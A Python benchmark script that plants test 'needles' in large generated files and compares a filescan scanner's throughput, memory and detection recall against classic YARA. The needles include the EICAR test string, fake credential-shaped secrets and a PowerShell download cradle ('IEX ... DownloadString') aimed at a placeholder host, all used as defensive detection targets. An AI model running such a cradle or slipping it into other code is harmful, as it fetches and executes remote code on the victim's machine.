"""Benchmark: filescan-scan (full default pass) vs the classic `yara` command, same rules, same file.

Generates (once, cached in bench/out/) mixed files of 64 MiB, 1 GiB and 2 GiB with planted needles,
some straddling 4/16/64 MiB boundaries; warms the page cache; runs both tools under /usr/bin/time;
prints throughput, the ratio, peak RSS and needles found/planted. Not a test: run `make bench-scanner`.
"""

from __future__ import annotations

import argparse
import json
import os
import random
import shutil
import statistics
import string
import subprocess
import sys
import tempfile
import time
from pathlib import Path

from filescan_shared.report.validate import parse_report

ROOT = Path(__file__).resolve().parent.parent
OUT = ROOT / "bench" / "out"
RULES = sorted((ROOT / "scanner_job" / "filescan_scanner" / "rules").glob("*.yar"))
MiB = 1024**2
BOUNDARIES = (4 * MiB, 16 * MiB, 64 * MiB)


def _eicar() -> bytes:
    # Assembled at run time from two halves so no file in the repo is an EICAR file.
    return b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR" + b"-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def _needles(rng: random.Random) -> list[tuple[str, bytes]]:
    up = string.ascii_uppercase + string.digits
    aln = string.ascii_letters + string.digits
    b64 = aln.replace("+", "")

    def pick(alphabet: str, n: int) -> str:
        return "".join(rng.choice(alphabet) for _ in range(n))

    return [
        ("filescan.eicar_test_file", _eicar()),
        ("filescan.secret_aws_access_key_id", ("AKIA" + pick(up, 16)).encode()),
        ("filescan.secret_private_key_block", b"-----BEGIN RSA PRIVATE KEY-----"),
        ("filescan.secret_jwt", f"eyJ{pick(aln, 20)}.eyJ{pick(aln, 40)}.{pick(aln, 30)}".encode()),
        ("filescan.secret_github_token", ("ghp_" + pick(aln, 36)).encode()),
        ("filescan.secret_aws_secret_access_key", f"aws_secret_access_key = {pick(b64, 40)}".encode()),
        (
            "filescan.script_powershell_download_cradle",
            b"IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/a')",
        ),
    ]


def generate(path: Path, size: int, seed: int = 7) -> list[dict[str, object]]:
    """Write a mixed file of ``size`` bytes with needles; return the planted needles."""
    rng = random.Random(seed)
    text = (b"The quick brown fox jumps over the lazy dog; lorem ipsum dolor sit amet 0123456789.\n" * 13000)[
        :MiB
    ]
    pattern = bytes(range(256)) * 4096
    planted: list[dict[str, object]] = []
    with path.open("wb") as out:
        for index in range(size // MiB):
            kind = index % 4
            block = (
                os.urandom(MiB) if kind == 0 else text if kind == 1 else bytes(MiB) if kind == 2 else pattern
            )
            out.write(block)
        out.truncate(size)
    kinds = _needles(rng)
    positions: list[int] = []
    for boundary in BOUNDARIES:
        positions += list(range(boundary, size, boundary))[:3]
    spots = sorted(set(positions))
    with path.open("r+b") as out:
        for n, boundary in enumerate(spots):
            rule, needle = kinds[n % len(kinds)]
            offset = boundary - len(needle) // 2
            out.seek(offset - 1)
            out.write(b"\n" + needle + b"\n")
            planted.append({"rule": rule, "offset": offset, "length": len(needle)})
        for n in range(len(kinds)):
            rule, needle = kinds[n]
            offset = rng.randrange(MiB, size - MiB) // 4096 * 4096 + 100
            out.seek(offset - 1)
            out.write(b"\n" + needle + b"\n")
            planted.append({"rule": rule, "offset": offset, "length": len(needle)})
    return planted


def cached(size: int) -> tuple[Path, list[dict[str, object]]]:
    """The benchmark file of ``size`` bytes and its needles (generated on first use)."""
    OUT.mkdir(parents=True, exist_ok=True)
    path = OUT / f"mixed-{size // MiB}MiB.bin"
    meta = path.with_suffix(".needles.json")
    if not (path.exists() and meta.exists() and path.stat().st_size == size):
        print(f"generating {path.name} ...", flush=True)
        meta.write_text(json.dumps(generate(path, size)))
    return path, json.loads(meta.read_text())


def timed(cmd: list[str], stdout: Path) -> tuple[float, int, int]:
    """Run ``cmd`` under /usr/bin/time; return wall seconds, peak RSS bytes and exit code."""
    with tempfile.NamedTemporaryFile("r", suffix=".time") as tfile, stdout.open("wb") as sink:
        started = time.perf_counter()
        proc = subprocess.run(["/usr/bin/time", "-f", "%M", "-o", tfile.name, *cmd], stdout=sink, check=False)
        wall = time.perf_counter() - started
        rss = int(Path(tfile.name).read_text().strip().splitlines()[-1]) * 1024
    return wall, rss, proc.returncode


def warm(path: Path) -> None:
    with path.open("rb", buffering=0) as handle:
        while handle.read(64 * MiB):
            pass


def run(size: int, lines: list[str], repeat: int) -> None:
    """Time both tools ``repeat`` times, alternating; report the median of each (a shared machine)."""
    path, planted = cached(size)
    warm(path)
    scan = shutil.which("filescan-scan", path=str(Path(sys.executable).parent)) or "filescan-scan"
    report_path = OUT / f"report-{size // MiB}MiB.json"
    yara_out = OUT / f"yara-{size // MiB}MiB.txt"
    scans, yaras = [], []
    for _ in range(repeat):
        scans.append(
            timed(
                [scan, str(path), "--report", str(report_path), "--log-level", "WARNING"], OUT / "scan.stdout"
            )
        )
        yaras.append(timed(["yara", "-s", "-w", *map(str, RULES), str(path)], yara_out))
    s_wall, y_wall = statistics.median(r[0] for r in scans), statistics.median(r[0] for r in yaras)
    s_rss, y_rss = max(r[1] for r in scans), max(r[1] for r in yaras)
    s_rc, y_rc = max(r[2] for r in scans), max(r[2] for r in yaras)
    report = parse_report(report_path.read_bytes())
    hits = [(f.rule_id, f.location.offset) for f in report.findings if f.engine == "yara-x"]
    found = set(hits)
    counts: dict[tuple[str, int | None], int] = {}
    for key in hits:
        counts[key] = counts.get(key, 0) + 1
    want = {(str(p["rule"]), int(p["offset"])) for p in planted}  # type: ignore[call-overload]
    once = sum(1 for k in want if counts.get(k) == 1)
    extra = len([k for k in found if k not in want])
    yara_hits = set()
    for line in yara_out.read_text(errors="replace").splitlines():
        if line.startswith("0x"):
            yara_hits.add(int(line.split(":", 1)[0], 16))
    yara_found = sum(1 for _, off in want if off in yara_hits)
    mib = size / MiB
    s_rate, y_rate = mib / s_wall, mib / y_wall
    lines.append(
        f"{mib:>7.0f} | {s_rate:>9.1f} | {y_rate:>9.1f} | {s_rate / y_rate:>5.2f} | {s_rss / MiB:>8.1f} | "
        f"{y_rss / MiB:>8.1f} | {once:>3}/{len(want):<3} | {extra:>5} | {yara_found:>3}/{len(want):<3} | "
        f"{report.verdict.verdict} (rc {s_rc}/{y_rc})"
    )
    print(lines[-1], flush=True)


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--sizes", default="64,1024,2048", help="file sizes in MiB (default 64,1024,2048)")
    parser.add_argument("--repeat", type=int, default=3, help="runs of each tool, alternating (median kept)")
    args = parser.parse_args()
    header = [
        f"filescan-scan (full default pass) vs `yara -s -w` (classic YARA {_yara_version()}, single file "
        f"= one thread), {len(RULES)} rule files, page cache warm, {os.cpu_count()} CPUs, "
        f"median of {args.repeat} alternating runs each",
        "   MiB | scan MiB/s | yara MiB/s | ratio | scan RSS | yara RSS | needles once | extra "
        "| yara needles | verdict",
    ]
    lines = list(header)
    print("\n".join(header), flush=True)
    for size in (int(s) * MiB for s in args.sizes.split(",")):
        run(size, lines, max(1, args.repeat))
    lines.append("(yara RSS counts the whole file: it mmaps it; scan RSS is the scanner's own peak)")
    (OUT / "bench-scanner.txt").write_text("\n".join(lines) + "\n")
    print(lines[-1])
    return 0


def _yara_version() -> str:
    return subprocess.run(["yara", "--version"], capture_output=True, text=True, check=False).stdout.strip()


if __name__ == "__main__":
    sys.exit(main())
